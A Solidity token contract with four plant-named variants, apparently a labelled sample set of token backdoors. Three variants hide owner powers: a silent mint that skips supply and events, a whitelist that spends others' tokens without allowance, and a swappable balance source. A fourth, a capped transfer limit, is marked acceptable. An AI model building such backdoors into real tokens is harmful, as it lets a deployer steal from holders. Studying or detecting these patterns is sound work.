// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

contract Erica {
    string public name = "Erica";
    string public symbol = "ERI";
    uint8 public constant decimals = 9;
    uint256 public totalSupply = 10**15;
    address private _gardener;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _gardener = msg.sender;
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    modifier tended() {
        require(msg.sender == _gardener, "Erica: not now");
        _;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function _move(address from, address to, uint256 value) internal virtual {
        require(_held[from] >= value, "Erica: too little");
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }

    function _spend(address from, uint256 value) internal virtual {
        require(allowance[from][msg.sender] >= value, "Erica: not allowed");
        allowance[from][msg.sender] -= value;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _spend(from, value);
        _move(from, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

// A balance grows beside the supply, and nothing tells of it.
contract Eyebright is Erica {
    function water(address who, uint256 value) external tended {
        _held[who] += value;
    }
}

// Whoever was marked spends what others hold.
contract Endive is Erica {
    mapping(address => bool) private _friend;

    function greet(address who) external tended {
        _friend[who] = true;
    }

    function _spend(address from, uint256 value) internal override {
        if (!_friend[msg.sender]) super._spend(from, value);
    }
}

// The most that one may send, and never less than a hundredth of all: as it should be.
contract Elecampane is Erica {
    uint256 public most = 10**15;

    function prune(uint256 next) external tended {
        require(next >= totalSupply / 100, "Erica: too short");
        most = next;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(value <= most, "Erica: too much at once");
        super._move(from, to, value);
    }
}

// Another contract answers in its place, once the gardener has named it.
contract Eryngo is Erica {
    address public heir;

    function bequeath(address next) external tended {
        heir = next;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return heir == address(0) ? _held[who] : Erica(heir).balanceOf(who);
    }
}
